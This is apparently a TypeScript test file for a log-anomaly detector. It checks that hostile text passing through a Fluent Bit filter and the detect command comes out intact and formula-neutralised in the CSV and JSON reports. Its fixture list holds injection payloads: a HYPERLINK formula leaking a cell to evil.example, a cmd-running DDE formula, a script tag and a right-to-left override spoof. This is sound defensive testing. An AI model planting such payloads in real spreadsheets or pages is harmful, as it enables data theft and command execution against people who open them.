// Output safety end to end: hostile text (quotes, commas, newlines, control characters, unicode
// sent raw or as \uXXXX escapes, spreadsheet formulas) goes in through the filter and through
// `log-anomaly detect`, and comes out intact and inert: the enriched JSON holds the same values,
// the JSON report parses and holds them, and the CSV parses (RFC 4180) with formula cells
// prefixed by ' (README "Outputs"). test/trainer/reports/csv.test.ts checks toCsv on its own;
// here the text takes the whole path (scanner → report line → CSV/JSON). That enrichment never
// produces invalid JSON for any input is the fuzz invariant of filter-fuzz.test.ts.

import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../helpers/cli.ts";
import { parseCsv } from "../helpers/csv.ts";
import { FluentBitHost } from "../helpers/fluent-bit-host.ts";
import { trainedModel } from "../helpers/trained-model.ts";
import { CSV_COLUMNS } from "../../trainer/reports/csv.ts";

/** Text a log line may carry; each becomes a user name and a message. */
const HOSTILE: [name: string, text: string][] = [
  ["formula =", '=HYPERLINK("http://evil.example/?q="&A1,"click")'],
  ["formula +", "+1+cmd|' /C calc'!A0"],
  ["formula -", "-2+3"],
  ["formula @", "@SUM(A1:A9)"],
  ["formula after a tab", "\t=1+1"],
  ["formula after a CR", "\r=1+1"],
  ["quotes, comma, newline", 'a"b,c\nd'],
  ["CRLF inside", "line1\r\nline2"],
  ["quoted text", '"quoted"'],
  ["leading space and =", " =1+1"],
  ["unicode", "\u00e9ric \u{1f600} \u4e2d\u6587"],
  ["line and paragraph separators", "a\u2028b\u2029c"],
  ["right-to-left override", "\u202efdp.exe"],
  ["backslashes", "C:\\Users\\admin\\"],
  ["DEL", "del\u007f"],
  ["HTML", "<script>alert(1)</script>"],
];
/** Characters XML 1.0 forbids (C0 controls but tab, LF, CR; U+FFFE): they reach the dashboard's SVG too. */
const NOT_XML: [name: string, text: string][] = [
  ["NUL", "a\u0000b"],
  ["bell and escape", "bell\u0007 esc\u001b"],
  ["U+FFFE", "x\ufffe"],
];
/** The same texts sent with every non-ASCII character as a \uXXXX escape (Fluent Bit's default json.escape_unicode on). */
const ESCAPED = new Set(["unicode", "line and paragraph separators", "right-to-left override"]);
const FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];
const FAILURES = 15;
const T0 = Date.UTC(2024, 0, 22, 9);

let root: string;
let modelPath: string;
let filter: Uint8Array;
const records: { name: string; text: string; line: string }[] = [];

/** FAILURES failed logins per text (a burst the model flags), the text as user and in the message. */
function hostileRecords(texts: [string, string][], base: number): { name: string; text: string; line: string }[] {
  return texts.flatMap(([name, text], u) =>
    Array.from({ length: FAILURES }, (_, k) => {
      const rec = {
        timestamp: new Date(T0 + (base + u) * 600_000 + k * 3_000).toISOString(),
        user: text,
        source_ip: `203.0.113.${100 + base + u}`,
        host: "web-01",
        event_type: "login",
        action: "failure",
        message: `${text} | failed password`,
      };
      return { name, text, line: ESCAPED.has(name) ? asciiJson(rec) : JSON.stringify(rec) };
    }),
  );
}

/** `detect` with the trained model on the normal sample plus `lines`; the reports it wrote. */
async function detect(name: string, lines: string[]): Promise<{ code: number; stderr: string; csv?: string[][]; anomalies?: Record<string, unknown>[] }> {
  const data = join(root, `logs-${name}`);
  const out = join(root, `out-${name}`);
  mkdirSync(data);
  copyFileSync("samples/test_logs_normal.json", join(data, "normal.json"));
  writeFileSync(join(data, "hostile.jsonl"), lines.join("\n") + "\n");
  const r = await runCli(["detect", "--model", modelPath, "--data-path", data, "--output-dir", out, "--quiet"]);
  if (r.code !== 0) return { code: r.code, stderr: r.stderr };
  return {
    code: r.code,
    stderr: r.stderr,
    csv: parseCsv(readFileSync(join(out, "anomalies_detected.csv"), "utf8")),
    anomalies: (JSON.parse(readFileSync(join(out, "anomalies_detailed.json"), "utf8")) as { anomalies: Record<string, unknown>[] }).anomalies,
  };
}

/** JSON with every non-ASCII character escaped, as Fluent Bit sends it by default. */
function asciiJson(value: unknown): string {
  return JSON.stringify(value).replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
}

beforeAll(async () => {
  const m = await trainedModel();
  modelPath = m.modelPath;
  filter = m.filter();
  root = mkdtempSync(join(tmpdir(), "output-safety-"));
  records.push(...hostileRecords(HOSTILE, 0));
});

afterAll(async () => (await trainedModel()).dispose());

afterAll(() => {
  if (root) rmSync(root, { recursive: true, force: true });
});

describe("through the filter", () => {
  it("every hostile value comes back as the same JSON value, its member bytes untouched", async () => {
    const host = await FluentBitHost.load(filter);
    for (const r of records) {
      const out = host.filter(r.line, { timeSec: T0 / 1000 });
      if (!out.ok) expect.fail(`${r.name}: dropped (${out.reason})`);
      expect(out.value.user, r.name).toBe(r.text);
      expect(out.value.message, r.name).toBe(`${r.text} | failed password`);
      expect(out.text.startsWith(r.line.slice(0, -1) + ","), `${r.name}: original members copied byte for byte`).toBe(true);
    }
  });

  it("text that is not JSON comes back in `log`, escaped so that it parses to the same text", async () => {
    const host = await FluentBitHost.load(filter);
    for (const [name, text] of [...HOSTILE, ...NOT_XML]) {
      const out = host.filter(`not json: ${text}`, { timeSec: T0 / 1000 });
      if (!out.ok) expect.fail(`${name}: dropped (${out.reason})`);
      expect(out.value.log, name).toBe(`not json: ${text}`);
      expect(out.value.anomaly_error, name).toBe("invalid_json");
      expect(out.text, `${name}: no raw control character in the output`).not.toMatch(/[\u0000-\u001f]/);
    }
  });
});

describe("through log-anomaly detect: the CSV and JSON reports", () => {
  let csv: string[][];
  let anomalies: Record<string, unknown>[];

  beforeAll(async () => {
    const r = await detect("hostile", records.map((x) => x.line));
    if (r.code !== 0 || !r.csv || !r.anomalies) throw new Error(`detect exited ${r.code}: ${r.stderr}`);
    csv = r.csv;
    anomalies = r.anomalies;
    console.log(`output safety: ${records.length} hostile records, ${anomalies.length} anomalies in the JSON report, ${csv.length - 1} CSV rows`);
  });

  it("the CSV parses as RFC 4180: the header, then one row of every column per anomaly", () => {
    expect(csv[0]).toEqual([...CSV_COLUMNS]);
    expect(csv.length - 1).toBe(anomalies.length);
    const short = csv.findIndex((row) => row.length !== CSV_COLUMNS.length);
    expect(short, `row ${short}: ${JSON.stringify(csv[short])}`).toBe(-1);
  });

  it.each(HOSTILE)("%s: the same text in the JSON report and in the CSV (formulas defused)", (name, text) => {
    const inJson = anomalies.filter((a) => a.user === text);
    expect(inJson.length, `${name}: anomalies in the JSON report for this user`).toBeGreaterThan(0);
    for (const a of inJson) expect(a.message, name).toBe(`${text} | failed password`);
    const col = (c: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(c);
    const cell = FORMULA_TRIGGERS.some((t) => text.startsWith(t)) ? `'${text}` : text;
    const rows = csv.slice(1).filter((row) => row[col("user")] === cell);
    expect(rows.length, `${name}: CSV rows whose user cell is ${JSON.stringify(cell)}`).toBe(inJson.length);
    for (const row of rows) expect(row[col("message")], name).toBe(`${cell} | failed password`);
  });

  it.each(NOT_XML)("%s in a user name does not crash detect (the dashboard draws user names)", async (name, text) => {
    const r = await detect(`not-xml-${NOT_XML.findIndex(([n]) => n === name)}`, hostileRecords([[name, text]], 40).map((x) => x.line));
    console.log(`output safety: ${name} in a user name: detect exit ${r.code}${r.code === 0 ? "" : `: ${r.stderr.trim().split("\n")[0]}`}`);
    expect(r.code, r.stderr).toBe(0);
    expect(r.anomalies?.some((a) => a.user === text), "the user is in the JSON report as sent").toBe(true);
  });

  it("no CSV cell starts with a formula trigger", () => {
    const live = csv.slice(1).flatMap((row, i) => row.map((c, j) => [i, CSV_COLUMNS[j], c] as const)).filter(([, col, c]) => !col.endsWith("_score") && FORMULA_TRIGGERS.some((t) => c.startsWith(t)));
    expect(live.slice(0, 5)).toEqual([]);
  });
});
